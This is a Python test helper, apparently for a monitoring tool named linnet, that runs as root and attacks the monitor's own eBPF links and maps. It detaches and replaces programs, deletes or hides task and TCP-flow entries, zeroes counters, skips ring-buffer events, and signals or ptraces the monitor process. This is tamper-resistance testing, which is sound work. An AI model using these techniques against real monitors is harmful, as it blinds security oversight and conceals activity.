#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks linnet's own probes and maps, as root: one command a line on standard input, with the PID
of a monitor first; each is answered by "ok" or by the name of its error.

  PID detach TYPE          the cgroup link of this attach type (a number) is detached
  PID replace TYPE         another program of the same type takes the place of ours
  PID delete TASK          the process is deleted from the map of the tree, by system call
  PID take TASK            the same by a BPF program of our own
  PID hide COOKIE          the entry of the TCP socket is kept under another key, where no hook finds it
  PID zero                 the counters and modes of the kernel side become zero
  PID consume              the reader's position in the event buffer moves
  PID signal NUMBER        the process PID, whichever it is, gets the signal
  PID attach               the process is traced, and let go again
  PID write                its memory is opened for writing
  PID storm NUMBER COUNT   the same COUNT times, as fast as it goes
"""
import ctypes
import errno
import mmap
import os
import struct
import sys
from pathlib import Path

MAP_UPDATE, MAP_DELETE, PROG_LOAD, TEST_RUN = 2, 3, 5, 10
MAP_BY_ID, INFO, LINK_UPDATE, LINK_BY_ID, LINK_DETACH = 14, 15, 29, 30, 34
SOCKET_FILTER, CGROUP_SOCK_ADDR = 1, 18
LOOKUP_ELEM, UPDATE_ELEM, DELETE_ELEM = 1, 2, 3  # enum bpf_func_id
SYS_BPF = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
_libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes.ljust(128, b"\0"), 128)
    result = _libc.syscall(SYS_BPF, command, buffer, len(buffer))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def address(buffer):
    return ctypes.cast(buffer, ctypes.c_void_p).value


def held(pid):
    """What the kernel says of each BPF object that the process holds."""
    for path in Path(f"/proc/{pid}/fdinfo").iterdir():
        try:
            text = path.read_text()
        except FileNotFoundError:  # closed since the folder was read
            continue
        facts = dict(line.split(":", 1) for line in text.splitlines() if ":" in line)
        yield {name: value.strip() for name, value in facts.items()}


def link_of(pid, attach_type):
    numbers = [f["link_id"] for f in held(pid)
               if f.get("link_type") == "cgroup" and f.get("attach_type") == attach_type]
    return bpf(LINK_BY_ID, struct.pack("I", int(numbers[0])))


def map_of(pid, name):
    for facts in held(pid):
        if "map_id" not in facts:
            continue
        descriptor = bpf(MAP_BY_ID, struct.pack("I", int(facts["map_id"])))
        info = ctypes.create_string_buffer(128)
        bpf(INFO, struct.pack("IIQ", descriptor, len(info), address(info)))
        # type, id, key_size, value_size, max_entries, flags, then the name
        if info.raw[24:40].split(b"\0")[0].decode() == name:
            return descriptor, struct.unpack_from("I", info.raw, 12)[0]
        os.close(descriptor)
    raise OSError(errno.ENOENT, name)


def load(program_type, instructions, attach_type=0):
    code = ctypes.create_string_buffer(b"".join(instructions))
    license_text = ctypes.create_string_buffer(b"GPL")
    return bpf(PROG_LOAD, struct.pack("IIQQIIQII16sII", program_type, len(instructions),
                                      address(code), address(license_text), 0, 0, 0, 0, 0, b"",
                                      0, attach_type))


def instruction(code, target=0, source=0, offset=0, value=0):
    return struct.pack("BBhi", code, source << 4 | target, offset, value)


def returning(value):
    return [instruction(0xb7, 0, value=value), instruction(0x95)]


def detach(pid, attach_type):
    bpf(LINK_DETACH, struct.pack("I", link_of(pid, attach_type)))


def replace(pid, attach_type):
    program = load(CGROUP_SOCK_ADDR, returning(1), int(attach_type))
    bpf(LINK_UPDATE, struct.pack("II", link_of(pid, attach_type), program))


def delete(pid, task):
    key = ctypes.create_string_buffer(struct.pack("I", int(task)))
    bpf(MAP_DELETE, struct.pack("IIQ", map_of(pid, "tasks")[0], 0, address(key)))


def on_map(helper, descriptor, key):
    """Calls a helper with this map and the key at `key` on the stack."""
    return [instruction(0xbf, 2, 10), instruction(0x07, 2, value=key),
            instruction(0x18, 1, 1, value=descriptor), instruction(0),
            instruction(0x85, value=helper)]


def run(instructions):
    program = load(SOCKET_FILTER, [*instructions, *returning(0)])
    packet = ctypes.create_string_buffer(64)
    bpf(TEST_RUN, struct.pack("IIIIQQ", program, 0, len(packet), 0, address(packet), 0))


def take(pid, task):
    tasks = map_of(pid, "tasks")[0]
    run([instruction(0x62, 10, offset=-4, value=int(task)),  # the key, on the stack
         *on_map(DELETE_ELEM, tasks, -4)])


def hide(pid, cookie):
    flows, cookie = map_of(pid, "tcp_flows")[0], int(cookie)
    run([instruction(0x18, 6, value=cookie), instruction(0),
         instruction(0x7b, 10, 6, offset=-8),
         instruction(0xa7, 6, value=-1), instruction(0x7b, 10, 6, offset=-16),  # ~cookie
         *on_map(LOOKUP_ELEM, flows, -8),
         instruction(0x55, 0, offset=2), *returning(0),
         instruction(0xbf, 3, 0), instruction(0xb7, 4), *on_map(UPDATE_ELEM, flows, -16),
         *on_map(DELETE_ELEM, flows, -8)])


def zero(pid):
    memory, size = map_of(pid, "linnet.bss")
    key, value = ctypes.create_string_buffer(4), ctypes.create_string_buffer(size)
    bpf(MAP_UPDATE, struct.pack("IIQQQ", memory, 0, address(key), address(value), 0))


def consume(pid):
    with mmap.mmap(map_of(pid, "events")[0], mmap.PAGESIZE) as position:
        position[:8] = struct.pack("Q", struct.unpack("Q", position[:8])[0] + 8)


def send(pid, number):
    os.kill(pid, int(number))


def storm(pid, number, count):
    for _ in range(int(count)):
        os.kill(pid, int(number))


def attach(pid):
    if _libc.ptrace(PTRACE_ATTACH, pid, None, None) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(pid, 0)
    _libc.ptrace(PTRACE_DETACH, pid, None, None)


def write(pid):
    with open(f"/proc/{pid}/mem", "r+b", buffering=0):
        pass


COMMANDS = {"detach": detach, "replace": replace, "delete": delete, "take": take, "hide": hide,
            "zero": zero, "consume": consume, "signal": send, "storm": storm, "attach": attach,
            "write": write}

for line in sys.stdin:
    process, name, *arguments = line.split()
    try:
        COMMANDS[name](int(process), *arguments)
        print("ok", flush=True)
    except OSError as error:
        print(errno.errorcode[error.errno], flush=True)
